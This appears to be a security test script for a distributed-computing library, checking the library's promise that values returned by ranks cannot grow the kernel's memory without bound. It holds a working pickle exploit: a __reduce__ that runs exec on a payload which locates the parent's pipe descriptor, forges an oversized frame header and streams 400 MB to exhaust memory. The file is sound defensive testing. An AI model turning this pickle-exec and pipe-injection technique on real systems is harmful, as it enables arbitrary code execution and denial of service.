"""Promise (docs/reference.md, bl.run): "Unpickled, a value may take at most 256 MiB of the kernel's memory, and a
run's values 1 GiB together"; the brief: "nothing a rank sends back ... can grow the kernel's memory without bound".
Attack: a rank returns a value whose unpickling, in the trial child, writes into the pipe the kernel reads the
handed-back value from: a frame header claiming 1.5 GB, then 400 MB streamed from one 1 MiB buffer (the child's
own memory limit never bites). The kernel's reader (unpickle._trials: received[i] += chunk) keeps all of it.
Measured: the kernel's peak RSS (ru_maxrss) before and after the call."""

from _h import run_driver, verdict

DRIVER = r'''
import resource, sys, time, barrierlab as bl

PAYLOAD = """
import os, struct, sys
f = sys._getframe()
while f is not None and "write_fd" not in f.f_locals:
    f = f.f_back
fd = f.f_locals["write_fd"]
os.write(fd, struct.pack(">BQ", 0, 1500 * 2**20))
chunk = b"x" * 2**20
for _ in range(400):
    os.write(fd, chunk)
os._exit(0)
"""

class Evil:
    def __reduce__(self):
        return (exec, (PAYLOAD,))

def fn():
    import torch.distributed as dist
    return Evil() if dist.get_rank() == 0 else 0

bl.run(lambda: 0, 2)  # warm up
def rss():
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * 4096 / 2**20
peak0, now0 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, rss()
t = time.monotonic()
run = bl.run(fn, 2, timeout=3, deadline=15)
took = time.monotonic() - t
peak1, now1 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, rss()
print(repr(run)[:500])
print(f"call took {took:.2f} s")
print(f"KERNEL peak RSS before {peak0:.0f} MiB, after {peak1:.0f} MiB: +{peak1 - peak0:.0f} MiB; RSS now {now1:.0f} (was {now0:.0f})")
'''

r = run_driver(DRIVER, timeout=120)
r.show()
import re

m = re.search(r"\+(\d+) MiB", r.out)
grew = int(m.group(1)) if m else None
verdict(grew is None or grew > 256, f"the kernel's peak memory grew by {grew} MiB for one value (bound 256 MiB)")
